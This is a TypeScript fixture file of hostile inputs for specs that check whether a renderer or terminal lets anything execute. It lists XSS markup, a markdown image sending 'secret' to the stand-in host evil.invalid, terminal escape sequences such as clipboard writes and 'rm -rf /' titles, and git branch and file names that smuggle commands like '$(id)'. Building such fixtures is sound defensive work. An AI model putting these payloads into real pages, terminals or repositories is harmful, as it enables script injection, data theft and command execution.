// Hostile text, from the reliability facts' corpora: escapes (E), markup (M), refs and names (B, P). Whatever it is put into, nothing of it
// may act. Markup calls `alert` or sets `harmed`, so that a spec notices.

export const markup: readonly string[] = [
  '<img src=x onerror="harmed=1;alert(1)">',
  '<svg onload="harmed=1;alert(1)"><circle r=9></svg>',
  '<a href="javascript:alert(1)">press me</a>',
  '<iframe srcdoc="<script>parent.harmed=1;alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '[press me](javascript:alert(1))',
  '![seen](https://evil.invalid/?q=secret)',
  '<details open ontoggle="harmed=1;alert(1)">more</details>',
  '```mermaid A["<img src=x onerror=alert(1)>"] click A href "javascript:alert(1)"```',
  '<form id=main><input name=tasks></form><form id=location></form>',
  '</script><script>harmed=1;alert(1)</script>',
  '<base href="https://evil.invalid/"><link rel=prefetch href="https://evil.invalid/x">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
];

const esc = '\u001b';
const bell = '\u0007';

export const escapes: readonly string[] = [
  `${esc}]52;c;cm0gLXJm${bell}`, `${esc}]52;c;?${bell}`, `${esc}]8;;javascript:alert(1)${bell}press${esc}]8;;${bell}`, `${esc}]8;;file:///etc/passwd${bell}press${esc}]8;;${bell}`,
  `${esc}]0;rm -rf /${bell}${esc}[21t`, `${esc}[20t`, `${esc}P$qm${esc}\\`, `${esc}P$q;id\n${esc}\\`, `${esc}[c`, `${esc}[>c`, `${esc}[5n`, `${esc}[6n`, `${esc}[?2004$p`,
  '\u009bc', '\u0090$qm\u009c', `${esc}]4;1;?${bell}`, `${esc}]10;?${bell}`, `${esc}]50;?${bell}`, `${esc}]1337;File=name=eA==:eA==${bell}`, `${esc}]7;file://host/etc${bell}`,
  `${esc}]633;E;id${bell}`, `${esc}_Gf=100;AAAA${esc}\\`, `${esc}[?1049h${esc}[?1049l`, `${esc}[2J${esc}[H✔ done`, `${esc}[8m hidden ${esc}[0m`, `${esc}[201~\rid\r`,
  '\u0003', '\u0004', '\u001a', '\u0005', `${esc}[999999999C`, `${esc}[${'0;'.repeat(10_000)}m`,
];

/** An operating system command without its end: what comes after it, up to the next escape, is part of it. */
export const unterminated = `${esc}]unterminated ${'x'.repeat(70_000)}`;

/** Names git takes for branches. */
export const branches: readonly string[] = [
  'a;id', 'a$(id)', 'a`id`', 'a|id', 'a&&id', "a'b", 'a"b', 'main\u3000||id', 'a\u202eb', 'a\u200bb', '<img/src=x/onerror=alert(1)>', 'feature/${{github.token}}', '#', '!id', '%2e%2e%2f', 'CON',
];

/** Names a repository can hold as files on Linux. */
export const files: readonly string[] = [
  '<img src=x onerror=alert(1)>', '-rf', '--', ':(top)x', '*', 'a\nb', 'a\rb', 'a\u001b[2Jb', 'a\u202eb.js', "a'b", 'a"b', 'a%00b', '$(id)', 'é', 'x ', 'con',
];
